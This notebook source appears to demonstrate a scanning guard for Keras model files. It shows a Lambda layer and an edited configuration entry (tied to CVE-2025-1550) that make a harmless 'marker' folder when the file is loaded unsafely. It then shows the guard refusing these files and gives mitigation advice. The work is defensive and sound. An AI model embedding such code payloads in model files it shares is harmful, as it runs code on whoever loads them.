# ruff: noqa: E402 - a notebook imports where it needs something
# The source of keras.ipynb; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # Keras: code in a layer, code in a configuration
#
# A `.keras` file looks harmless: a zip archive, a JSON configuration, an HDF5 file of numbers. But a `Lambda` layer in that
# configuration carries compiled Python, and other entries name functions to fetch by module and name. Here each of the
# two gets a payload, which only makes a folder called `marker`.

# %%
import json
import logging
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

os.environ |= {"TF_CPP_MIN_LOG_LEVEL": "3", "TF_ENABLE_ONEDNN_OPTS": "0"}  # without its log

# %%
import keras

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker")
logging.getLogger("absl").setLevel("ERROR")  # it would say that HDF5 is an old format

# %% [markdown]
# ## The attack
#
# A model as anybody would write it, but for one layer. Its function returns what it is given, and does something else
# besides. Saving it needs no trick at all.


# %%
def harmless():
    return keras.layers.Lambda(lambda x: (__import__("os").makedirs("marker", exist_ok=True), x)[1])


def network(*layers):
    return keras.Sequential([keras.Input((2,)), *layers, keras.layers.Dense(1)])


network().save("clean.keras")
network(harmless()).save("lambda.keras")
network(harmless()).save("lambda.h5")  # the older format
marker.rmdir()  # building the layer has called it
sorted(path.name for path in Path().iterdir())

# %% [markdown]
# The second kind needs an editor. `activation` of a layer is a name, and a configuration may give any module for it.
# Keras up to 3.8 imported and called what it was given there (CVE-2025-1550); newer ones refuse, and models outlive them.

# %%
named = {"module": "os", "class_name": "function", "config": "makedirs", "registered_name": "makedirs"}
with zipfile.ZipFile("clean.keras") as clean, zipfile.ZipFile("named.keras", "w") as target:
    for member in clean.namelist():
        data = clean.read(member)
        if member == "config.json":
            config = json.loads(data)
            config["config"]["layers"][-1]["config"]["activation"] = named
            data = json.dumps(config).encode()
        target.writestr(member, data)

# %% [markdown]
# Does it work? Somebody who was told to pass `safe_mode=False`, as many model cards say, loads them in a process without
# a guard:

# %% tags=["ran-twice"]
for name in ("lambda.keras", "lambda.h5"):
    load = f"import keras; keras.saving.load_model({name!r}, safe_mode=False, compile=False)"
    subprocess.run([sys.executable, "-c", load], check=True, capture_output=True)
    print(f"{name:13} payload ran:", marker.exists())
    marker.rmdir()

# %% [markdown]
# ## What the guard does
#
# `load_model` is guarded like any other loader, whatever `safe_mode` says. That switch alone has not been enough: Keras
# ignored it for HDF5 files (CVE-2025-9905), and names in configurations have passed it (CVE-2025-1550, CVE-2025-8747,
# CVE-2025-9906).

# %%
# %load_ext modelscan

# %% tags=["clean"]
model = keras.saving.load_model("clean.keras")

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("lambda.keras", safe_mode=False)

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("lambda.h5", safe_mode=False)

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("named.keras", safe_mode=False)

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% [markdown]
# ## What the evidence says
#
# The same without Keras, in one line a file. The code of the layer was not unmarshalled to find that out: its names and
# instructions are read from its bytes, which is why the report can say what it uses.

# %% tags=["keras"]
import modelscan

for path in sorted(Path().iterdir()):
    report = modelscan.scan(path)
    worst = report.findings[0] if report.findings else None
    about = f"{worst.severity} {worst.rule} {worst.expression[:60]}" if worst else ""
    print(f"{path.name:14} {report.verdict:8} {about}")

# %% [markdown]
# ## Going on safely
#
# - Ask for weights alone (`model.save_weights`), and build the model from source you have read.
# - Read the function that the report shows. If it is what its author says, allow this one file by its hash; a layer with
#   a name of its own and `@keras.saving.register_keras_serializable()` needs no `Lambda` in the first place.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
